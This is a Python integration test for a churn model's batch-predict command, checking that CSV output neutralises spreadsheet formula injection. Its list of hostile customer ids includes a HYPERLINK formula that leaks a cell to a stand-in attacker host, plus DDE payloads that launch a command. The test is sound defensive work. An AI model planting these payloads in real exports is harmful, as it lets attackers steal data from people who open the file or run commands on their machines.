"""``churn batch-predict`` on hostile ids: a cell a spreadsheet would run as a formula
(``=HYPERLINK(...)``, ``+cmd|...``) never reaches a CSV output as a formula (OWASP CSV injection).
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from typer.testing import CliRunner

from pipelines.cli.commands import app
from tests.serving.conftest import example_records

pytestmark = pytest.mark.integration

HOSTILE_IDS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-123",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB-1",
    "\rCR-1",
    "OK-0001",
    "12=3",
]


def _batch(project: Path, source: Path, target: Path, *extra: str) -> None:
    args = ["-C", str(project), "batch-predict", str(source), str(target), *extra]
    result = CliRunner().invoke(app, args, prog_name="churn")
    assert result.exit_code == 0, result.output


def test_batch_predict_csv_neutralises_formula_cells_and_keeps_scores(
    trained_project: tuple[Path, Any], tmp_path: Path
) -> None:
    """The champion scores a file whose ids are formulas: the CSV output's ids start with ``'``
    where a spreadsheet would run them (``=``, ``+``, ``-``, ``@``, tab, CR), the rest and every
    score are as written; ``--raw-cells`` and Parquet output keep the ids verbatim."""
    project = trained_project[0]
    frame = pd.DataFrame(example_records(len(HOSTILE_IDS), seed=5))
    frame["customerID"] = HOSTILE_IDS
    source = tmp_path / "hostile.csv"
    frame.to_csv(source, index=False, quoting=csv.QUOTE_ALL)  # a CR inside a cell stays there

    _batch(project, source, tmp_path / "safe.csv")
    _batch(project, source, tmp_path / "raw.csv", "--raw-cells")
    _batch(project, source, tmp_path / "scores.parquet")

    read = {"dtype": {"customerID": "string"}, "keep_default_na": False}
    safe = pd.read_csv(tmp_path / "safe.csv", **read)
    raw = pd.read_csv(tmp_path / "raw.csv", **read)
    typed = pd.read_parquet(tmp_path / "scores.parquet")
    expected = [("'" + i if i[0] in "=+-@\t\r" else i) for i in HOSTILE_IDS]
    assert safe["customerID"].tolist() == expected
    assert raw["customerID"].tolist() == HOSTILE_IDS
    assert typed["customerID"].tolist() == HOSTILE_IDS
    # No text cell of the safe file starts a formula; scores and decisions are untouched.
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            assert not safe[column].astype(str).str.match(r"^[=+\-@\t\r]").any(), column
    text = {"dtype": str, "keep_default_na": False}
    as_written = pd.read_csv(tmp_path / "raw.csv", **text)
    neutral = pd.read_csv(tmp_path / "safe.csv", **text)
    for column in ("churn_probability", "churn", "model_version"):  # the very same text
        assert neutral[column].tolist() == as_written[column].tolist(), column
    assert safe["churn_probability"].tolist() == pytest.approx(typed["churn_probability"].tolist())
    assert safe["churn_probability"].nunique() > 1  # the champion's scores, not one prior
    assert safe["churn"].tolist() == typed["churn"].tolist()
